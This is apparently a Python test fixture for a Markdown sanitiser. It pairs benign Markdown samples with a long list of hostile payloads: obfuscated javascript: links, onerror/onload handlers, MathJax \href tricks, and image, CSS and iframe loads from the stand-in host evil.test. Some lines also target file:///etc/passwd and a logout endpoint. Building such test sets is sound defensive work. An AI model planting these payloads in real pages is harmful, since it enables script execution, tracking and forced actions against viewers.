"""Markdown that tries to run or to load something when somebody looks at it, and plain Markdown.

`HOSTILE` has one text a line; `@@` stands for the end of a line, `^A` for a control character.
"""

from __future__ import annotations

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJg"
    "gg=="
)
"""A picture of one point."""

HARMLESS = [
    "# Title\n\n*Text* with **bold**, `code`, a [link](https://example.org/a?b=c&d=e), ~~gone~~.",
    "> a quote\n\n1. one\n2. two\n\n- [ ] todo\n- [x] done",
    "a < b and c > d & e; x <- y",
    "$a < b$ and $$\\sum_{i=1}^n x_i \\le \\frac{1}{2}$$",
    "\\begin{align}\na &= b \\\\\nc &< d\n\\end{align}",
    "| a | b |\n|---|:-:|\n| 1 | 2 |",
    "```python\ndef f(x):\n    return x < 3\n```",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=http://x>` in code",
    "    indented <b>code</b>",
    "<https://example.org>",
    "https://example.org/x",
    "mail <ada@example.org>",
    "![net](network.png)",
    "<b>bold</b> and <sub>2</sub><br>next",
    '<span style="color:red">red</span>',
    '<font color="red">red</font>',
    "<center>x</center>",
    "line\\\nnext",
    "* a\n  * b\n    * c",
    "a\n\n---\n\nb",
    "## [x](#y)",
    "**Note:** time is 10:30",
    "term\n: definition",
    "E[X] = 3, f[0]",
    "[1]: see below",
    "[ref]\n\n[ref]: https://example.org 'title'",
    "C:\\Users\\ada",
    "a@b",
    "x & y &lt; z",
    "emoji 😀: ok",
    '<div align="center">hello</div>',
    "<details><summary>More</summary>text</details>",
    "Ünïcödé — „quotes“: «x»",
    "1 \\* 2 \\_ 3",
    "\\$5 and \\[not math\\]",
    "$$\n\\begin{pmatrix}a & b\\\\c & d\\end{pmatrix}\n$$",
    "my graph: ![g](attachment-lost.png)",
    f"![point](data:image/png;base64,{PIXEL})",
]

_LINES = r"""
[click](javascript:alert(1))
[click](JaVaScRiPt:alert(1))
[click](java&#115;cript:alert(1))
[click](javascript&colon;alert(1))
[click](&#x6A;avascript:alert(1))
[click](<java	script:alert(1)>)
[click](<javascript:alert(1)>)
[click]( javascript:alert(1))
[click](%6Aavascript:alert(1))
[click](vbscript:msgbox(1))
[click](data:text/html,<script>alert(1)</script>)
[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[click](file:///etc/passwd)
[click](blob:x)
[click](jar:javascript:alert(1))
[click][ref]@@[ref]: javascript:alert(1)
[ref]@@[ref]: <javascript:alert(1)> 'title'
<javascript:alert(1)>
<a href="javascript:alert(1)">x</a>
<a@@href="java@@script:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<A HREF='&#106;avascript:alert(1)'>x</A>
<a href="x" onclick="alert(1)">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><image href="http://evil.test/x.png"></svg>
<svg><use href="http://evil.test/x.svg#a"></svg>
<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>
<script>alert(1)</script>
<script src=http://evil.test/x.js></script>
<img src=x onerror=alert(1)>
<img src="http://evil.test/x.png">
<img srcset="http://evil.test/x.png 1x">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<picture><source srcset="http://evil.test/x.png"><img></picture>
![x](http://evil.test/x.png)
![x](//evil.test/x.png)
![x](https://evil.test/x.png "title")
![x][r]@@[r]: http://evil.test/x.png
![r]@@@@[r]: http://evil.test/x.png
[![x](http://evil.test/x.png)](javascript:alert(1))
![x](/hub/logout)
![x](../../../api/x.png)
![x](data:image/svg+xml;base64,PHN2Zy8+)
![x](attachment:none.png)
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="http://evil.test/"></iframe>
<object data="http://evil.test/x"></object>
<embed src="http://evil.test/x">
<meta http-equiv="refresh" content="0;url=http://evil.test/">
<base href="http://evil.test/">
<link rel=stylesheet href="http://evil.test/x.css">
<style>body{background:url(http://evil.test/x)}</style>
<style>@import 'http://evil.test/x.css';</style>
<div style="background:url(http://evil.test/x)">x</div>
<p style="background-image:url('http://evil.test/x')">x</p>
<span style="color:red;background:url(//evil.test/x)">x</span>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>
<td background="http://evil.test/x">x</td>
<table background="http://evil.test/x"><tr><td>x</td></tr></table>
<body onload=alert(1)>
<form action="http://evil.test/"><input type=submit value=go></form>
<input onfocus=alert(1) autofocus>
<button onclick=alert(1)>x</button>
<button class="full-credit">x</button>
<video src="http://evil.test/x"></video>
<audio src="http://evil.test/x" autoplay></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover=alert(1)@@x
<div onmouseover=alert(1)
</div></div></div><h1>out</h1>
<!-- --><img src=http://evil.test/x>
<!--@@<img src=http://evil.test/x>
<![CDATA[<img src=http://evil.test/x>]]>
<?php <img src=http://evil.test/x> ?>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<template><script>alert(1)</script></template>
<x onclick=alert(1)>x</x>
<plaintext>
<xmp><script>alert(1)</script></xmp>
$\href{javascript:alert(1)}{x}$
$$\href{javascript:alert(1)}{x}$$
$\HREF{javascript:alert(1)}{x}$
\begin{align}\href{javascript:alert(1)}{x}\end{align}
\\(\href{javascript:alert(1)}{x}\\)
&#36;&#92;href{javascript:alert(1)}{x}$
$\hr<!-- -->ef{javascript:alert(1)}{x}$
$\style{background:url(http://evil.test/x)}{x}$
$\require{html}\href{javascript:alert(1)}{x}$
$\bbox[background:url(http://evil.test/x)]{x}$
$\class{full-credit}{x}$
$\def\x{\href}\x{javascript:alert(1)}{y}$
$\let\x=\href \x{javascript:alert(1)}{y}$
```mermaid@@graph TD; A-->B; click A "javascript:alert(1)"@@```
```mermaid@@graph TD; A["<img src=http://evil.test/x>"]@@```
~~~mermaid-x@@graph TD@@~~~
<pre class="mermaid">graph TD; A["<img src=x onerror=alert(1)>"]</pre>
<div class="jp-Mermaid"><pre class="mermaid">x</pre></div>
a <b onclick=alert(1)>b</b>
**[x](javascript:alert(1))**
> [x](javascript:alert(1))
# [x](javascript:alert(1))
| [x](javascript:alert(1)) | b |@@|---|---|@@| ![](http://evil.test/x) | c |
- [ ] ![](http://evil.test/x)
<http://evil.test/x" onmouseover="alert(1)>
[x](http://e" onmouseover="alert(1))
[x](http://e 'a" onmouseover="alert(1)')
![x" onerror="alert(1)](y.png)
[x](<http://e> "t" onclick=alert(1))
<img src="network.png" onerror=alert(1)>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&NewLine;javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="^Ajavascript:alert(1)">x</a>
<a id="x" name="y" href="javascript:void(0)">x</a>
<div id="submission_id">x</div>
<input type="image" src="http://evil.test/x">
<isindex action="javascript:alert(1)">
<bgsound src="http://evil.test/x">
<img dynsrc="http://evil.test/x" lowsrc="http://evil.test/x">
<track src="http://evil.test/x">
<ins cite="http://evil.test/x">x</ins>
<q cite="javascript:alert(1)">x</q>
<portal src="http://evil.test/"></portal>
<link rel=prefetch href=http://evil.test/x>
<a href="http://ok.test" ping="http://evil.test/x">x</a>
<img src="http&#58;//evil.test/x">
<img src="&#47;/evil.test/x">
<img src="\\evil.test\x.png">
![x](\\\\evil.test\\x.png)
![x](http:evil.test/x.png)
![x](ftp://evil.test/x.png)
"""

HOSTILE = [
    line.replace("@@", "\n").replace("^A", "\x01") for line in _LINES.strip("\n").split("\n")
]
